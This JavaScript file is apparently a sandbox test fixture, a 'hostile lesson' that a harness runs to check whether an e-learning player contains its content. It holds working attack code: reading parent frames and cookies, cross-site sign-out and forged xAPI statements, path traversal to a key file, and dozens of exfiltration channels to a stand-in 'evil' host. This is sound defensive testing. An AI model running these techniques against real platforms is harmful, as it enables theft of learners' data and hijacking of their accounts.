/* A hostile lesson. Each attack throws when it is refused, and returns what it got hold of otherwise; what reached
   the outside is judged there. `target` says where everything is; see raid.py. */

const target = JSON.parse(document.getElementById("target").textContent);
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (ms, promise) =>
  Promise.race([promise, pause(ms).then(() => { throw new Error("no answer"); })]);

/** An element that fetches by itself; waits until it has or has failed. */
function element(tag, attributes, parent = document.body) {
  const made = document.createElement(tag);
  Object.assign(made, attributes);
  const ended = new Promise((done) => {
    made.addEventListener("load", () => done("loaded"));
    made.addEventListener("error", () => done("failed"));
  });
  parent.append(made);
  return Object.assign(made, { fetched: within(1500, ended).catch(() => "silent") });
}

const evil = (name) => `${target.evil}/${name}?stolen=1`;
/** Ask a server of the attacker's for an address, as calls between browsers do; whatever arrives there has got out. */
async function callOut(name, Connection) {
  const port = new Map(target.stun.split(",").map((one) => one.split(":"))).get(name);
  const call = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  call.createDataChannel("stolen");
  await call.setLocalDescription(await call.createOffer());
  await pause(500);
  call.close();
}

/** What is got if it is anything: a refused frame may hold an empty page (Firefox). */
function something(got) {
  if (!got) throw new Error("nothing");
  return got;
}
const text = async (answer) => (await (await answer).text()).slice(0, 200);

/** Read what is not the lesson's. */
const reading = {
  document_of_the_top: () => top.document.title,
  address_of_the_top: () => top.location.href,
  variables_of_the_top: () => top.outpost,
  storage_of_the_top: () => top.localStorage.length,
  document_of_the_player: () => parent.parent.document.body.innerHTML,
  frame_in_the_player: () => parent.frameElement.sandbox.value,
  opener: () => top.opener.document.title,
  cookies: () => {
    if (!document.cookie) throw new Error("none");
    return document.cookie;
  },
  who_is_signed_in_by_fetch: () => text(fetch(`${target.lms}/api/v1/me`, { credentials: "include" })),
  pages_by_request: () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${target.lms}/people`, false);
    request.withCredentials = true;
    request.send();
    return request.responseText.slice(0, 200);
  },
  a_page_in_a_frame: async () => {
    const frame = element("iframe", { src: `${target.lms}/people` });
    await frame.fetched;
    return something(frame.contentDocument.body.innerText);
  },
  a_page_in_a_window: async () => {
    const opened = open(`${target.lms}/people`);
    if (!opened) throw new Error("no window");
    await pause(500);
    return opened.document.body.innerText;
  },
  records_as_a_script: async () => {
    const script = element("script", { src: `${target.lms}/xapi/statements` });
    if ((await script.fetched) !== "loaded") throw new Error("refused");
    return "loaded";
  },
  a_page_as_an_object: async () => {
    const made = element("object", { data: `${target.lms}/people`, type: "text/html" });
    await made.fetched;
    return made.contentDocument.body.innerText;
  },
  a_picture_of_a_page: async () => {
    const image = element("img", { src: `${target.lms}/static/build/none.png` });
    if ((await image.fetched) !== "loaded") throw new Error("refused");
    return "loaded";
  },
  file_of_another_course: () => text(fetch(`${target.other}/c/${target.otherToken}/index.html`)),
  file_of_another_course_here: async () => {
    const answer = await fetch(`/c/${target.otherToken}/index.html`);
    if (!answer.ok) throw new Error(String(answer.status));
    return answer.text();
  },
  state_of_another_learner_here: async () => {
    const answer = await fetch(`/rt/${target.otherToken}/`);
    if (!answer.ok) throw new Error(String(answer.status));
    return answer.text();
  },
  another_course_in_a_frame: async () => {
    const frame = element("iframe", { src: `${target.other}/rt/${target.otherToken}/` });
    await frame.fetched;
    return something(frame.contentDocument.body.innerHTML);
  },
  a_channel_to_another_course: () =>
    within(2500, new Promise((done) => {
      const channel = new BroadcastChannel("smuggle");
      channel.onmessage = ({ data }) => done(data);
      channel.postMessage("ask");
    })),
  storage_of_another_course: () => {
    const kept = localStorage.getItem("smuggled");
    if (kept === null) throw new Error("none");
    return kept;
  },
  database_of_another_course: async () => {
    const names = (await indexedDB.databases()).map((one) => one.name).filter((name) => name === "smuggled");
    if (!names.length) throw new Error("none");
    return names;
  },
  clipboard: () => within(1500, navigator.clipboard.readText()),
  place: () => within(1500, new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))),
  camera: () => within(1500, navigator.mediaDevices.getUserMedia({ video: true })),
  microphone: () => within(1500, navigator.mediaDevices.getUserMedia({ audio: true })),
  screen: () => within(1500, navigator.mediaDevices.getDisplayMedia({ video: true })),
  devices: () => within(1500, navigator.usb.requestDevice({ filters: [] })),
  what_was_copied: () => within(1500, navigator.clipboard.read()),
  notifications: async () => {
    if ((await Notification.requestPermission()) !== "granted") throw new Error("refused");
  },
  the_pointer: () => within(1500, document.body.requestPointerLock()),
  the_keyboard: () => within(1500, navigator.keyboard.lock()),
  local_fonts: () => within(1500, queryLocalFonts()),
  files_of_hers: () => within(1500, showOpenFilePicker()),
  sleep_of_the_screen: () => within(1500, navigator.wakeLock.request("screen")),
  motion: () => within(1500, new Promise((done, fail) => {
    const sensor = new Accelerometer();
    sensor.onerror = fail;
    sensor.onreading = done;
    sensor.start();
  })),
  instruments: () => within(1500, navigator.requestMIDIAccess()),
  serial_ports: () => within(1500, navigator.serial.requestPort()),
  storage_of_the_top_level: () => within(1500, document.requestStorageAccess()),
  files_above_the_course: async () => {
    const answer = await fetch(`/c/${target.token()}/..%2f..%2f..%2fnode.key`);
    if (!answer.ok) throw new Error(String(answer.status));
    return answer.text();
  },
  the_pages_under_the_content_host: async () => {
    const answer = await fetch("/people");
    if (!answer.ok) throw new Error(String(answer.status));
    return answer.text();
  },
};

/** Change what is not the lesson's. */
const changing = {
  a_cookie_for_everybody: () => {
    document.cookie = `${target.cookie}=planted; domain=localhost; path=/`;
    document.cookie = `${target.cookie}=planted; path=/`;
  },
  sign_her_out_by_form: async () => {
    const frame = element("iframe", { name: "hidden" });
    const form = element("form", { method: "post", action: `${target.lms}/sign-out`, target: "hidden" });
    form.submit();
    await pause(500);
    frame.remove();
  },
  sign_her_out_by_request: () =>
    fetch(`${target.lms}/sign-out`, { method: "POST", mode: "no-cors", credentials: "include" }),
  a_statement_in_her_name: () =>
    fetch(`${target.lms}/xapi/statements`, {
      method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ forged: true }),
    }),
  another_learners_attempt: () =>
    fetch(`${target.other}/rt/${target.otherToken}/commit`, {
      method: "POST", mode: "no-cors", body: target.passed,
    }),
  another_learners_attempt_here: async () => {
    const answer = await fetch(`/rt/${target.otherToken}/commit`, { method: "POST", body: target.passed });
    return String(answer.status);
  },
  a_guessed_attempt: () => fetch(`/rt/${"A".repeat(43)}/commit`, { method: "POST", body: target.passed }),
  a_service_worker: () => navigator.serviceWorker.register(`/c/${target.token()}/worker.js`),
  the_top_by_script: () => {
    top.location = "javascript:document.title='taken'";
  },
  a_forged_message: () => {
    for (const type of ["navigate", "terminated", "left", "saved"]) top.postMessage({ outpost: 1, type }, "*");
    for (const type of ["navigate", "ready"]) top.postMessage(JSON.parse(`{"outpost":1,"type":"${type}","__proto__":{"x":1}}`), "*");
  },
  a_flood_of_messages: () => {
    for (let number = 0; number < 100_000; number += 1) top.postMessage(number, "*");
    top.postMessage("x".repeat(10_000_000), "*");
  },
  the_domain: () => {
    document.domain = "localhost";
    return document.domain;
  },
  a_flood_of_history: () => {
    for (let number = 0; number < 150; number += 1) history.pushState(null, "", `#${number}`);
  },
  a_flood_of_dialogs: async () => {
    for (let number = 0; number < 20; number += 1) {
      alert(number);
      confirm(number);
      prompt(number);
    }
    print();
  },
  a_flood_of_messages_to_the_shim: () => {
    for (let number = 0; number < 100_000; number += 1) parent.postMessage({ outpost: 1, type: "leave", number }, "*");
  },
  the_shim: () => {
    parent.API.LMSInitialize = () => "taken";
    parent.document.querySelector("iframe").removeAttribute("sandbox");
  },
};

/** Bring something out of the house. */
const leaking = {
  prefetch: async () => {
    // Firefox drops what it would fetch ahead as soon as a frame begins to load, and may be asked again.
    for (let times = 0; times < 4; times += 1) {
      const link = element("link", { rel: "prefetch", href: evil("prefetch") }, document.head);
      if ((await link.fetched) === "loaded") break;
      await pause(300);
    }
  },
  fetch: () => fetch(evil("fetch"), { mode: "no-cors" }),
  request: () => {
    const request = new XMLHttpRequest();
    request.open("GET", evil("request"), false);
    request.send();
  },
  beacon: () => navigator.sendBeacon(evil("beacon"), "stolen"),
  image: () => element("img", { src: evil("image") }).fetched,
  web_socket: () => new WebSocket(evil("web_socket").replace("http", "ws")),
  event_source: () => new EventSource(evil("event_source")),
  script: () => element("script", { src: evil("script") }).fetched,
  module: () => import(evil("module")),
  worker: () => new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(evil("worker"))})`]))),
  style: () => element("style", { textContent: `@import url("${evil("style")}");` }).fetched,
  background: () => element("p", { style: `background: url("${evil("background")}")`, textContent: "x" }),
  font: async () => {
    document.fonts.add(await new FontFace("stolen", `url("${evil("font")}")`).load());
  },
  frame: () => element("iframe", { src: evil("frame") }).fetched,
  object: () => element("object", { data: evil("object") }).fetched,
  embed: () => element("embed", { src: evil("embed"), type: "text/html" }).fetched,
  video: () => element("video", { src: evil("video"), preload: "auto" }).fetched,
  track: () => {
    const video = element("video", {});
    const track = element("track", { src: evil("track"), default: true }, video);
    track.track.mode = "showing";
    return track.fetched;
  },
  svg: () => {
    document.body.insertAdjacentHTML("beforeend", `<svg><image href="${evil("svg")}"/></svg>`);
  },
  form: () => {
    const form = element("form", { method: "post", action: evil("form") });
    element("iframe", { name: "form-out" });
    form.target = "form-out";
    form.submit();
  },
  ping: () => element("a", { href: "#", ping: evil("ping") }).click(),
  preload: () => element("link", { rel: "preload", as: "script", href: evil("preload") }, document.head).fetched,
  speculation: () =>
    element("script", {
      type: "speculationrules",
      textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [evil("speculation")] }] }),
    }),
  icon: () => element("link", { rel: "icon", href: evil("icon") }, document.head).fetched,
  base: () => {
    const base = element("base", { href: `${target.evil}/` }, document.head);
    const image = element("img", { src: "base?stolen=1" });
    return image.fetched.finally(() => base.remove());
  },
  keep_alive: () => fetch(evil("keep_alive"), { method: "POST", mode: "no-cors", keepalive: true, body: "stolen" }),
  web_socket_stream: () => new WebSocketStream(evil("web_socket_stream").replace("http", "ws")).opened,
  style_of_what_is_typed: () => {
    element("style", { textContent: `input[value^="n"] { background: url("${evil("style_of_what_is_typed")}"); }` });
    element("input", {}).setAttribute("value", "nine words");
  },
  shared_worker: () => {
    const code = `fetch(${JSON.stringify(evil("shared_worker"))}, { mode: "no-cors" })`;
    return new SharedWorker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  },
  worklet: async () => {
    const code = `import ${JSON.stringify(evil("worklet"))}`;
    await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  },
  a_refresh: () => {
    const frame = element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${evil("a_refresh")}">` });
    return frame.fetched;
  },
  a_page_of_data: () => {
    const page = `<script>new Image().src=${JSON.stringify(evil("a_page_of_data"))}</scr` + "ipt>";
    return element("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })) }).fetched;
  },
};

/** The same through a window. A browser opens one where she has clicked just before, and otherwise none: each has a button. */
const opening = {
  a_named_window: () => open(evil("a_named_window"), "named", "popup,width=100,height=100"),
  a_window_without_opener: () => open(evil("a_window_without_opener"), "_blank", "noopener"),
  a_blank_window_led_on: () => {
    open("about:blank").location = evil("a_blank_window_led_on");
  },
  a_form_to_a_window: () => {
    const form = element("form", { method: "get", action: target.evil + "/a_form_to_a_window", target: "_blank" });
    element("input", { name: "stolen", value: "1" }, form);
    form.submit();
  },
  a_new_window: () => open(evil("a_new_window")),
  a_link_to_a_window: () => element("a", { href: evil("a_link_to_a_window"), target: "_blank" }).click(),
};

/** The same by going there, or calling out; each ends the lesson, stopped or not, so they are made one at a time. */
const leaving = {
  a_link_to_the_top: () => element("a", { href: evil("a_link_to_the_top"), target: "_top" }).click(),
  the_top: () => {
    top.location = evil("the_top");
  },
  a_download: () => element("a", { href: evil("a_download"), download: "free.exe" }).click(),
  a_link_to_the_parent: () => element("a", { href: evil("a_link_to_the_parent"), target: "_parent" }).click(),
  the_shims_frame: () => {
    parent.location = evil("the_shims_frame");
  },
  its_own_page: () => {
    location = evil("its_own_page");
  },
  web_rtc: () => callOut("web_rtc", RTCPeerConnection),
  web_rtc_of_a_frame: () => callOut("web_rtc_of_a_frame", element("iframe", {}).contentWindow.RTCPeerConnection),
  web_rtc_of_a_page_of_data: async () => {
    const page = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
    const frame = element("iframe", { src: page });
    await frame.fetched;
    return callOut("web_rtc_of_a_page_of_data", frame.contentWindow.RTCPeerConnection);
  },
};

async function told(attack) {
  try {
    return { got: String(JSON.stringify(await within(4000, Promise.resolve(attack()))) ?? "").slice(0, 300) };
  } catch (error) {
    return { refused: `${error.name ?? error}: ${error.message ?? error.code ?? ""}` };
  }
}

const said = {};
async function inTurn(kind, attacks) {
  for (const [name, attack] of Object.entries(attacks)) said[`${kind}.${name}`] = await told(attack);
}

/** Most of them wait for something that never comes: they wait together. */
async function together(kind, attacks) {
  const each = Object.entries(attacks).map(async ([name, attack]) => {
    said[`${kind}.${name}`] = await told(attack);
  });
  await Promise.all(each);
}

target.token = () => location.pathname.split("/")[2];

async function raid() {
  if (target.lms) {
    await together("reading", reading);
    await inTurn("changing", changing);
  }
  await together("leaking", leaking);
  return said;
}
